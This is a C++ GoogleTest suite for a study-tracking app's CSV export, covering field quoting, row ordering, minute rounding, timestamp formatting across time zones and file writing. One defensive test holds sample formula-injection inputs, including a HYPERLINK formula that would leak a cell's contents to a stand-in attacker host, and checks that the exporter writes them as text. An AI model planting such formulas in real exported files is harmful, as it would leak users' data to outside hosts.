#include "storage/CsvExport.h"
#include "StorageSamples.h"
#include "support/FakeServices.h"
#include "support/ScopedTimeZone.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <gtest/gtest.h>
#include <random>

namespace quill {
namespace {

using test::plainSession;
using test::utc;

const QString kHeader = QStringLiteral("开始时间,任务,计划分钟,专注分钟,完成,专注评分,开始精力,"
                                       "结束精力,走神次数,疲劳次数,提示次数,备注\n");

class CsvText : public ::testing::Test {
protected:
    void SetUp() override {
        // Start times are written in the local zone; CTest runs these tests in Shanghai.
        ASSERT_EQ(utc(2026, 3, 5, 0, 0).toLocalTime().offsetFromUtc(), 8 * 3600)
            << "run with TZ=Asia/Shanghai";
    }

    static StudySession session(const QDateTime& start, qint64 focusedSeconds) {
        StudySession s = plainSession("0A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D", start);
        s.id = QUuid::createUuid();
        s.focusedSeconds = focusedSeconds;
        return s;
    }
};

TEST_F(CsvText, RowsAreOldestFirstQuotedAndWithoutATrailingLineFeed) {
    StudySession late = session(utc(2026, 3, 5, 16, 30), 90);
    late.taskName = QStringLiteral("  写作 \n");
    late.plannedMinutes = 50;
    late.focusRating = 5;
    using K = FocusEventKind;
    for (K kind : {K::reminder, K::mindWander, K::pause, K::resume, K::mindWander, K::fatigue,
                   K::reminder, K::reminder})
        late.events << FocusEvent{QUuid::createUuid(), late.startedAt, 60, kind};
    late.note = QStringLiteral("他说 \"好\" ,然后");

    StudySession middle = session(utc(2026, 3, 5, 8, 30), 89);
    middle.completed = false;
    middle.startEnergy = 2;
    middle.endEnergy = 1;
    middle.focusRating = 2;
    middle.note = QStringLiteral("line1\nline2, more");

    StudySession early = session(utc(2026, 3, 4, 23, 59, 59), 29);
    early.taskName = QStringLiteral("a \"quoted\", task");

    const QString expected =
        kHeader + QStringLiteral(
                      "2026-03-05 07:59:59,\"a \"\"quoted\"\", task\",30,0,是,4,4,3,0,0,0,\"\"\n"
                      "2026-03-05 16:30:00,\"未分类\",30,1,否,2,2,1,0,0,0,\"line1\nline2, more\"\n"
                      "2026-03-06 00:30:00,\"写作\",50,2,是,5,4,3,2,1,3,\"他说 \"\"好\"\" ,然后\"");
    // The store holds the newest first; its list is not reordered.
    const QList<StudySession> newestFirst{late, middle, early};
    EXPECT_EQ(CsvExport::csvText(newestFirst), expected);
    EXPECT_EQ(newestFirst.first(), late);
    // Any input order gives the same file.
    EXPECT_EQ(CsvExport::csvText({early, late, middle}), expected);
}

TEST_F(CsvText, TextThatStartsLikeAFormulaIsWrittenAsText) {
    const QStringList risky = {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")"),
        QStringLiteral("+1+1"),
        QStringLiteral("-2"),
        QStringLiteral("@SUM(A1)"),
        QStringLiteral("\t=1"),
        QStringLiteral("\r=1")};
    for (const QString& text : risky) {
        StudySession s = session(utc(2026, 3, 5, 8, 30), 60);
        s.taskName = QStringLiteral("x");
        s.note = text;
        QString quoted = text;
        quoted.replace(QLatin1Char('"'), QStringLiteral("\"\""));
        EXPECT_TRUE(CsvExport::csvText({s}).endsWith(QStringLiteral(",\"'") + quoted + '"'))
            << "note " << text.toStdString();
        s.note = QStringLiteral("a ") + text;
        EXPECT_TRUE(CsvExport::csvText({s}).endsWith(QStringLiteral(",\"a ") + quoted + '"'))
            << "only at the start";
    }
    StudySession named = session(utc(2026, 3, 5, 8, 30), 60);
    named.taskName = QStringLiteral("=1+1");
    EXPECT_TRUE(CsvExport::csvText({named}).contains(QStringLiteral(",\"'=1+1\",")));
}

TEST_F(CsvText, EqualStartTimesKeepTheirListOrder) {
    const QDateTime start = utc(2026, 3, 5, 8, 30);
    QList<StudySession> sessions;
    for (int i = 0; i < 5; ++i) {
        StudySession s = session(start, 60);
        s.note = QString::number(i);
        sessions << s;
    }
    sessions.insert(2, session(start.addSecs(-1), 60));
    const QStringList lines = CsvExport::csvText(sessions).split(QLatin1Char('\n'));
    ASSERT_EQ(lines.size(), 7);
    EXPECT_TRUE(lines[1].endsWith(QStringLiteral(",\"\"")));
    for (int i = 0; i < 5; ++i)
        EXPECT_TRUE(lines[2 + i].endsWith(QStringLiteral(",\"%1\"").arg(i)))
            << lines[2 + i].toStdString();
}

TEST_F(CsvText, MinutesRoundHalvesAwayFromZero) {
    const std::pair<qint64, const char*> cases[] = {
        {0, "0"},   {29, "0"},       {30, "1"},  {89, "1"},   {90, "2"},  {149, "2"},
        {150, "3"}, {86400, "1440"}, {-29, "0"}, {-30, "-1"}, {-90, "-2"}};
    for (const auto& [seconds, minutes] : cases) {
        const QString row = CsvExport::csvText({session(utc(2026, 3, 5, 8, 0), seconds)})
                                .split(QLatin1Char('\n'))
                                .at(1);
        EXPECT_EQ(row.section(QLatin1Char(','), 3, 3), QString::fromLatin1(minutes)) << seconds;
    }
}

TEST_F(CsvText, IntegersArePlainDecimalsAndAnUnsetStartTimeLeavesTheFieldEmpty) {
    StudySession s = session(QDateTime(), 600);
    s.plannedMinutes = -5;
    s.focusRating = 1234567;
    s.startEnergy = std::numeric_limits<qint64>::min();
    s.endEnergy = std::numeric_limits<qint64>::max();
    EXPECT_EQ(CsvExport::csvText({s}),
              kHeader + QStringLiteral(",\"未分类\",-5,10,是,1234567,"
                                       "-9223372036854775808,9223372036854775807,"
                                       "0,0,0,\"\""));
}

TEST_F(CsvText, StartTimesMatchTheLocaleFormatterInEveryZone) {
    // Instants around midnights and daylight-saving changes, with long gaps between some.
    QList<StudySession> sessions;
    std::mt19937 rng(5);
    QDateTime t = utc(2014, 12, 31, 15, 0);
    while (t < utc(2026, 12, 31, 0, 0)) {
        sessions << session(t.addMSecs(rng() % 1000), 60);
        const int step = int(rng() % 100);
        t = t.addSecs(step < 70   ? qint64(rng() % 7200)
                      : step < 97 ? qint64(rng() % 200000)
                                  : qint64(rng() % 90000000));
    }
    // The repeated hour when New York falls back, minute by minute.
    for (int m = 0; m < 150; m += 7)
        sessions << session(utc(2025, 11, 2, 5, 0).addSecs(m * 60), 60);
    const QLocale zhCN(QStringLiteral("zh_CN"));
    for (const char* zone :
         {"America/New_York", "Europe/London", "Australia/Lord_Howe", "America/Sao_Paulo",
          "Asia/Shanghai", "Pacific/Fiji", "America/Havana"}) {
        test::ScopedTimeZone scoped(zone);
        const QStringList lines = CsvExport::csvText(sessions).split(QLatin1Char('\n'));
        QList<QDateTime> starts;
        for (const StudySession& s : sessions)
            starts << s.startedAt;
        std::stable_sort(starts.begin(), starts.end());
        ASSERT_EQ(lines.size(), starts.size() + 1);
        for (qsizetype i = 0; i < starts.size(); ++i) {
            const QString expected =
                zhCN.toString(starts[i].toLocalTime(), QStringLiteral("yyyy-MM-dd HH:mm:ss"));
            ASSERT_EQ(lines[i + 1].section(QLatin1Char(','), 0, 0), expected)
                << zone << " " << starts[i].toString(Qt::ISODate).toStdString();
        }
    }
}

// ---------------------------------------------------------------- export through the chooser

class CsvExportTest : public ::testing::Test {
protected:
    QTemporaryDir dir;
    test::FakeFileChooser chooser;
    QList<StudySession> sessions{
        plainSession("0A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D", utc(2026, 3, 5, 8, 30))};

    QStringList entries() const {
        return QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden);
    }
};

TEST_F(CsvExportTest, SuggestsTheFileNameAndCancellingWritesNothing) {
    chooser.answer = std::nullopt;
    EXPECT_FALSE(CsvExport::exportSessions(sessions, chooser));
    ASSERT_EQ(chooser.suggestedNames.size(), 1);
    EXPECT_EQ(chooser.suggestedNames.first(), QStringLiteral("Quillmere-专注记录.csv"));
    EXPECT_TRUE(chooser.filters.first().contains(QStringLiteral("*.csv")));
    chooser.answer = QString();
    EXPECT_FALSE(CsvExport::exportSessions(sessions, chooser));
    EXPECT_EQ(entries(), QStringList{});
}

TEST_F(CsvExportTest, ChosenFileIsReplacedByExactlyTheTextInUtf8WithoutBom) {
    const QString path = dir.path() + QStringLiteral("/导出 记录.csv");
    for (const QByteArray& old : {QByteArray(), QByteArray(100000, 'x')}) {
        QFile f(path);
        if (!old.isEmpty()) {
            ASSERT_TRUE(f.open(QIODevice::WriteOnly));
            f.write(old);
            f.close();
        }
        chooser.answer = path;
        ASSERT_TRUE(CsvExport::exportSessions(sessions, chooser));
        ASSERT_TRUE(f.open(QIODevice::ReadOnly));
        const QByteArray bytes = f.readAll();
        EXPECT_EQ(bytes, CsvExport::csvText(sessions).toUtf8());
        EXPECT_TRUE(bytes.startsWith("开始时间"));
        EXPECT_EQ(entries(), QStringList{QStringLiteral("导出 记录.csv")});
    }
}

TEST_F(CsvExportTest, UnwritableLocationReturnsFalse) {
    const QString plainFile = dir.path() + QStringLiteral("/plain");
    {
        QFile f(plainFile);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    }
    for (const QString& path : {plainFile + QStringLiteral("/inside.csv"),
                                dir.path() + QStringLiteral("/missing/folder/x.csv"),
                                QStringLiteral("/proc/quillmere.csv"), dir.path()}) {
        chooser.answer = path;
        EXPECT_FALSE(CsvExport::exportSessions(sessions, chooser)) << path.toStdString();
    }
    EXPECT_EQ(entries(), QStringList{QStringLiteral("plain")});
}

} // namespace
} // namespace quill
